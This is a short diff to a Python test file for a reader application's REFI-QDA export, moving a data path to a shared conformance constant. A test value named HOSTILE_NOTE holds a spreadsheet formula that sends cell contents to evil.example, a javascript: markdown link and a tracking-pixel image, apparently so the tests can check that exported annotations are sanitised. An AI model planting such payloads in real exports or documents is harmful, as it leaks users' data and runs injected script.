@@ -22,8 +22,9 @@ from reader.core.export.csv_writer import COLUMNS
 from reader.core.library import Library
 from reader.core.models import AnnotationId
 from tests.annotation_helpers import annotate, annotate_seeds
+from tests.conftest import CONFORMANCE
 
-DATA = Path(__file__).resolve().parents[1] / "data" / "conformance" / "refi-qda"
+DATA = CONFORMANCE / "refi-qda"
 NS = {"q": "urn:QDA-XML:project:1.0"}
 HOSTILE_NOTE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") '
                 '[x](javascript:alert(1)) ![](http://tracker.example/pixel.gif) '
